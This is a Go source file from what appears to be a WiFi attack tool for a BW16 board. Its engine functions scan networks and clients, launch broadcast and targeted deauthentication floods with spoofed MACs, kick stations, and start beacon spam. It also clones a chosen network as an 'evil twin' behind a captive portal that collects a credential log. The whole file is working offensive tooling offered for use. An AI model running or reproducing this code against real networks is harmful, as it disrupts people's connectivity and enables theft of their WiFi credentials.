package engine

import (
	"context"
	"fmt"
	"time"

	"github.com/vitaminmoo/bw16-tool/internal/decoder"
	"github.com/vitaminmoo/bw16-tool/internal/encoder"
	"github.com/vitaminmoo/bw16-tool/internal/firmware"
	"github.com/vitaminmoo/bw16-tool/internal/inventory"
	"github.com/vitaminmoo/bw16-tool/internal/notify"
	"github.com/vitaminmoo/bw16-tool/internal/protocol"
)

// Scan clears the WiFi inventory, runs a scan, fetches the networks and
// their clients, and ranks the result. It returns the number of networks.
func (e *Engine) Scan(ctx context.Context) (int, error) {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return 0, err
	}

	sc := e.cfg.Scan
	start, err := enc.Scan(time.Duration(sc.Duration) * time.Millisecond)
	if err != nil {
		return 0, err
	}

	e.withState(func(s *decoder.Session) {
		s.Inventory.ClearWiFi()
		s.Status.ScanFinished = false
		s.Status.Scanning = true
	})
	e.notify(notify.ScanStarted, "wifi")

	if err := e.send(ctx, start); err != nil {
		e.withState(func(s *decoder.Session) { s.Status.Scanning = false })
		return 0, err
	}

	for i := 0; i < sc.PollCount; i++ {
		if err := sleep(ctx, sc.PollInterval); err != nil {
			return 0, err
		}
		if e.scanFinished() {
			break
		}
	}
	if !e.scanFinished() {
		// Ask for what there is anyway; the firmware keeps partial results.
		e.withState(func(s *decoder.Session) { s.Status.Scanning = false })
	}

	if err := e.send(ctx, enc.ListNetworks()); err != nil {
		return 0, err
	}
	if err := sleep(ctx, sc.ListWait); err != nil {
		return 0, err
	}

	if enc.Capabilities().Has(firmware.CapClientDetection) {
		if err := e.fetchClients(ctx, enc); err != nil {
			return 0, err
		}
	}

	var n int
	e.withState(func(s *decoder.Session) {
		s.Inventory.Sort()
		n = s.Inventory.NetworkCount()
	})
	if err := e.send(ctx, enc.Ready()); err != nil {
		return n, err
	}
	e.notify(notify.ScanFinished, "%d networks", n)
	return n, nil
}

func (e *Engine) scanFinished() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.session.Status.ScanFinished
}

func (e *Engine) fetchClients(ctx context.Context, enc *encoder.Encoder) error {
	cmds, err := enc.ListClients()
	if err != nil {
		return err
	}
	if err := e.send(ctx, cmds); err != nil {
		return err
	}
	return sleep(ctx, e.cfg.Scan.ClientWait)
}

// RefreshClients asks for the current station list and re-ranks networks.
func (e *Engine) RefreshClients(ctx context.Context) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	if err := e.fetchClients(ctx, enc); err != nil {
		return err
	}
	e.withState(func(s *decoder.Session) { s.Inventory.Sort() })
	return nil
}

// network copies the network at display index i.
func (e *Engine) network(i int) (inventory.Network, error) {
	e.mu.Lock()
	defer e.mu.Unlock()
	n, ok := e.inv.Network(inventory.NetworkIndex(i))
	if !ok {
		return inventory.Network{}, fmt.Errorf("network %d: %w", i, ErrNoSuchNetwork)
	}
	out := *n
	out.ClientIndices = append([]inventory.ClientIndex(nil), n.ClientIndices...)
	return out, nil
}

func target(n inventory.Network) encoder.Target {
	return encoder.Target{ID: n.ID, SSID: n.SSID, Channel: n.Channel}
}

func (e *Engine) attackConfig() encoder.AttackConfig {
	a := e.cfg.Attack
	return encoder.AttackConfig{Reason: a.Reason, Portal: a.Portal, MAC: e.sourceMAC()}
}

func (e *Engine) sourceMAC() string {
	if mac := e.cfg.Attack.MAC; mac != "" && mac != "random" {
		return mac
	}
	return protocol.RandomMAC()
}

// Deauth toggles a broadcast deauth against the network at display index i.
// It returns whether the attack is now running.
func (e *Engine) Deauth(ctx context.Context, i int) (bool, error) {
	return e.deauth(ctx, i, e.cfg.Attack.Reason)
}

// DeauthWithReason is Deauth with an explicit 802.11 reason code.
func (e *Engine) DeauthWithReason(ctx context.Context, i, reason int) (bool, error) {
	return e.deauth(ctx, i, reason)
}

func (e *Engine) deauth(ctx context.Context, i, reason int) (bool, error) {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return false, err
	}
	n, err := e.network(i)
	if err != nil {
		return false, err
	}

	if n.DeauthActive {
		if err := e.send(ctx, enc.StopDeauth(target(n))); err != nil {
			return true, err
		}
		e.withState(func(s *decoder.Session) {
			if enc.Modern() {
				s.ClearDeauth()
			} else {
				s.SetDeauth(n.ID, false)
			}
		})
		return false, nil
	}

	cfg := e.attackConfig()
	cfg.Reason = reason
	cmds, err := enc.Deauth(target(n), cfg)
	if err != nil {
		return false, err
	}
	if err := e.send(ctx, cmds); err != nil {
		return false, err
	}
	e.withState(func(s *decoder.Session) { s.SetDeauth(n.ID, true) })
	return true, nil
}

// DeauthClient deauths the client in slot c of the network at display
// index i.
func (e *Engine) DeauthClient(ctx context.Context, i, c int) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	n, err := e.network(i)
	if err != nil {
		return err
	}
	snap := e.Snapshot().Inventory
	clients := snap.ClientsOf(i)
	if c < 0 || c >= len(clients) {
		return fmt.Errorf("client %d of network %d: %w", c, i, ErrNoSuchClient)
	}

	cmds, err := enc.DeauthClient(target(n), clients[c].MAC, e.attackConfig())
	if err != nil {
		return err
	}
	if err := e.send(ctx, cmds); err != nil {
		return err
	}
	e.withState(func(s *decoder.Session) { s.SetDeauth(n.ID, true) })
	return nil
}

// Kick deauths a station by MAC wherever it is associated.
func (e *Engine) Kick(ctx context.Context, mac string) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	cmds, err := enc.Kick(mac, e.cfg.Attack.Reason)
	if err != nil {
		return err
	}
	return e.send(ctx, cmds)
}

// EvilTwin clones the network at display index i behind the configured
// captive portal. The credential log is cleared first.
func (e *Engine) EvilTwin(ctx context.Context, i int) error {
	return e.evilTwin(ctx, i, e.cfg.Attack.Portal)
}

// EvilTwinWithPortal is EvilTwin with an explicit portal.
func (e *Engine) EvilTwinWithPortal(ctx context.Context, i, portal int) error {
	return e.evilTwin(ctx, i, portal)
}

func (e *Engine) evilTwin(ctx context.Context, i, portal int) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	n, err := e.network(i)
	if err != nil {
		return err
	}
	cfg := e.attackConfig()
	cfg.Portal = portal
	cmds, err := enc.EvilTwin(target(n), cfg)
	if err != nil {
		return err
	}

	e.withState(func(s *decoder.Session) { s.Inventory.Credentials().Clear() })
	if err := e.send(ctx, cmds); err != nil {
		return err
	}
	e.apStarted(enc, fmt.Sprintf("evil twin of %s", n.DisplaySSID()))
	return nil
}

// CreateAP starts an access point. A zero channel uses the configured one.
// The credential log is cleared first.
func (e *Engine) CreateAP(ctx context.Context, ap encoder.APConfig) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	if ap.Channel == 0 {
		ap.Channel = e.cfg.Attack.APChannel
	}
	cmds, err := enc.CreateAP(ap, e.sourceMAC())
	if err != nil {
		return err
	}

	e.withState(func(s *decoder.Session) { s.Inventory.Credentials().Clear() })
	if err := e.send(ctx, cmds); err != nil {
		return err
	}
	e.apStarted(enc, "access point "+ap.SSID)
	return nil
}

// apStarted tracks the AP flag locally for legacy firmware, which sends no
// acknowledgement.
func (e *Engine) apStarted(enc *encoder.Encoder, what string) {
	if enc.Modern() {
		return
	}
	changed := false
	e.withState(func(s *decoder.Session) {
		changed = !s.Status.APActive
		s.Status.APActive = true
	})
	if changed {
		e.notify(notify.AttackStarted, "%s", what)
	}
}

// Beacon starts beacon spam.
func (e *Engine) Beacon(ctx context.Context, mode encoder.BeaconMode, ssid string) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	cmds, err := enc.Beacon(mode, ssid)
	if err != nil {
		return err
	}
	return e.send(ctx, cmds)
}

// StopBeacon stops beacon spam.
func (e *Engine) StopBeacon(ctx context.Context) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	if err := e.send(ctx, enc.StopBeacon()); err != nil {
		return err
	}
	if !enc.Modern() {
		e.withState(func(s *decoder.Session) { s.Status.BeaconActive = false })
	}
	return nil
}

// ToggleMonitor flips monitor mode and returns the new state. Legacy
// firmware does not acknowledge, so the state is tracked locally.
func (e *Engine) ToggleMonitor(ctx context.Context) (bool, error) {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return false, err
	}
	var on bool
	e.withState(func(s *decoder.Session) { on = !s.Status.MonitorActive })

	cmds, err := enc.Monitor(on)
	if err != nil {
		return !on, err
	}
	if err := e.send(ctx, cmds); err != nil {
		return !on, err
	}
	if !enc.Modern() {
		e.withState(func(s *decoder.Session) { s.Status.MonitorActive = on })
	}
	return on, nil
}

// StopAll stops every running operation and clears the local attack state.
func (e *Engine) StopAll(ctx context.Context) error {
	e.opMu.Lock()
	defer e.opMu.Unlock()
	enc, err := e.ready(ctx)
	if err != nil {
		return err
	}
	if err := e.send(ctx, enc.StopAll()); err != nil {
		return err
	}
	e.withState(func(s *decoder.Session) {
		s.StopAll()
		if !enc.Modern() {
			s.Status.APActive = false
		}
	})
	return e.send(ctx, enc.Ready())
}
